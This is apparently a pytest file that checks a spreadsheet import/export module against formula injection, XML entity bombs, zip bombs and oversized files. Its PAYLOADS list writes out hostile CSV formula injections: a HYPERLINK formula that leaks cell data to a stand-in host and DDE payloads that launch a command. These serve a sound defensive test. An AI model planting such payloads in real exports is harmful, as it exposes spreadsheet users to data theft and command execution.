"""shared.tabular, attacked: formula injection through exports, XML and zip bombs, external
entities and oversized files through imports."""

from __future__ import annotations

import csv
import io
import time
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from openpyxl import load_workbook

from shared import tabular
from shared.tabular import ImportLimits, TableError, TableTooLarge, read_table
from tests.unit.shared import xlsx_attacks as attack

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "＝1+1",
]
HARMLESS = ["上海华东机电有限公司", "ACME = best", "a-b", "", "13800138000"]


def _csv(header, rows) -> str:
    return "".join(tabular.csv_chunks(header, rows, rows_per_chunk=2))


def test_csv_neutralises_every_formula_start_and_keeps_numbers():
    rows = [[p, Decimal("-12.50"), -3, 0.5] for p in PAYLOADS] + [[h, Decimal("1.00"), 1, None] for h in HARMLESS]
    text = _csv(["name", "amount", "qty", "rate"], rows)
    assert text.startswith("\ufeff")
    parsed = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert parsed[0] == ["name", "amount", "qty", "rate"]
    for (name, *_), payload in zip(parsed[1:], PAYLOADS, strict=False):
        assert name == "'" + payload
    assert [r[0] for r in parsed[1 + len(PAYLOADS):]] == HARMLESS
    # numbers are written bare (a spreadsheet reads -12.50 as a number), text is quoted
    first_data_line = text.split("\r\n")[1]
    assert first_data_line.endswith(",-12.50,-3,0.5")
    assert first_data_line.startswith('"\'=HYPERLINK(')


def test_csv_quotes_text_so_a_semicolon_locale_cannot_split_a_formula_out():
    text = _csv(["name"], [["x;=1+1"]])
    assert '"x;=1+1"' in text


def test_xlsx_stores_formula_like_text_as_text_cells():
    rows = [[p, Decimal("-12.50"), -3] for p in PAYLOADS] + [[h, 1, 2] for h in HARMLESS]
    data = tabular.xlsx_bytes(["name", "amount", "qty"], rows, sheet="customers")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheet_xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    cells = list(sheet.iter_rows(min_row=2))
    assert not [c.coordinate for row in cells for c in row if c.data_type == "f"]
    for row, payload in zip(cells, PAYLOADS, strict=False):
        expected = payload if payload[:1] != "\r" else "\n=1+1"  # XML normalises a CR to LF on reading
        assert row[0].value == expected and row[0].data_type == "s" and row[0].quotePrefix
        assert row[1].value == -12.5 and row[1].data_type == "n"
        assert row[2].value == -3 and row[2].data_type == "n"
    assert [r[0].value for r in cells[len(PAYLOADS):]] == [h or None for h in HARMLESS]


def test_xlsx_drops_characters_xml_cannot_carry_instead_of_failing():
    data = tabular.xlsx_bytes(["name"], [["bad\x0bname\x01"]])
    assert load_workbook(io.BytesIO(data)).active["A2"].value == "badname"


def test_xlsx_takes_dates_and_times_with_an_offset():
    at = datetime(2026, 5, 1, 9, 30, tzinfo=UTC)
    sheet = load_workbook(io.BytesIO(tabular.xlsx_bytes(["at", "on"], [[at, date(2026, 5, 1)]]))).active
    assert sheet["A2"].value == "2026-05-01T09:30:00+00:00" and sheet["B2"].value == datetime(2026, 5, 1)


# ---- reading ---------------------------------------------------------------------------

def test_openpyxl_parses_through_defusedxml():
    assert openpyxl.DEFUSEDXML is True


@pytest.mark.parametrize("make", [
    lambda: attack.billion_laughs(["name"]),
    lambda: attack.external_entity(["name"]),
    lambda: attack.internal_entity(["name"], "=HYPERLINK(1)"),
])
def test_xlsx_declaring_entities_is_refused_before_expansion(make):
    data = make()
    started = time.monotonic()
    with pytest.raises(TableError) as caught:
        list(read_table(data, "x.xlsx", ImportLimits()))
    assert not isinstance(caught.value, TableTooLarge)
    assert "DTD or entities" in str(caught.value)
    assert time.monotonic() - started < 5
    with pytest.raises(TableError):  # the upload-time check refuses it too
        tabular.check_upload(data, "x.xlsx", ImportLimits())


def test_openpyxl_alone_refuses_entities_too():
    """Second line of defence: even without the prolog check openpyxl will not expand them."""
    from defusedxml import DefusedXmlException

    with pytest.raises(ValueError) as caught:  # openpyxl wraps it while sizing the sheet
        book = load_workbook(io.BytesIO(attack.billion_laughs(["name"])), read_only=True)
        list(book.worksheets[0].iter_rows(values_only=True))
    assert isinstance(caught.value, DefusedXmlException) or isinstance(caught.value.__cause__, DefusedXmlException)


def test_zip_bomb_is_refused_by_its_unzipped_size():
    data = attack.zip_bomb(["name"], 5 * 1024 * 1024)
    assert len(data) < 100 * 1024
    limits = ImportLimits(max_unzipped_bytes=1024 * 1024)
    with pytest.raises(TableTooLarge) as caught:
        list(read_table(data, "x.xlsx", limits))
    assert caught.value.details == {"max_unzipped_bytes": 1024 * 1024}
    with pytest.raises(TableTooLarge):
        tabular.check_upload(data, "x.xlsx", limits)


def test_row_cap_counts_rows_as_the_spreadsheet_numbers_them():
    limits = ImportLimits(max_rows=3)
    ok = "name\n" + "a\n" * 3
    assert len(list(read_table(ok.encode(), "x.csv", limits))) == 4
    with pytest.raises(TableTooLarge) as caught:
        list(read_table((ok + "b\n").encode(), "x.csv", limits))
    assert caught.value.details == {"max_rows": 3}
    with pytest.raises(TableTooLarge):
        list(read_table(attack.workbook([["name"], ["a"], ["b"], ["c"], ["d"]]), "x.xlsx", limits))
    assert len(list(read_table(attack.workbook([["name"], ["a"], ["b"], ["c"]]), "x.xlsx", limits))) == 4


def test_a_sparse_sheet_claiming_a_million_rows_stops_at_the_cap_quickly():
    data = attack.sparse_rows(["name", "phone"])
    started = time.monotonic()
    with pytest.raises(TableTooLarge):
        list(read_table(data, "x.xlsx", ImportLimits(max_rows=1000)))
    assert time.monotonic() - started < 5


def test_a_dimension_claiming_16384_columns_reads_only_the_capped_width():
    data = attack.sparse_rows(["name", "phone"], last_row=3)
    rows = list(read_table(data, "x.xlsx", ImportLimits(max_columns=20)))
    assert rows == [["name", "phone"], [], ["late"]]


def test_upload_check_counts_csv_rows_and_quoted_newlines_are_not_rows():
    limits = ImportLimits(max_rows=2)
    quoted = b'name,address\n"a","line1\nline2\nline3"\n"b","x"\n'
    tabular.check_upload(quoted, "x.csv", limits)  # 5 newlines, 2 data rows: fine
    with pytest.raises(TableTooLarge):
        tabular.check_upload(b"name\na\nb\nc\n", "x.csv", limits)
    with pytest.raises(TableTooLarge) as caught:
        tabular.check_upload(b"x" * 11, "x.csv", ImportLimits(max_bytes=10))
    assert caught.value.details == {"max_bytes": 10}


@pytest.mark.parametrize("data,name", [(b"PK\x03\x04 broken", "a.xlsx"), (b"not a zip", "a.xlsx"),
                                       (b"\xff\xfe\x00\xd8", "a.csv")])
def test_unreadable_files_are_table_errors(data, name):
    with pytest.raises(TableError):
        list(read_table(data, name, ImportLimits()))


def test_csv_and_xlsx_read_the_same_and_chinese_survives():
    rows = [["name", "phone"], ["上海华东机电有限公司", "021-1234"]]
    csv_bytes = "name,phone\n上海华东机电有限公司,021-1234\n".encode("gbk")
    assert list(read_table(csv_bytes, "x.csv", ImportLimits())) == rows
    assert list(read_table(attack.workbook(rows), "x.xlsx", ImportLimits())) == rows
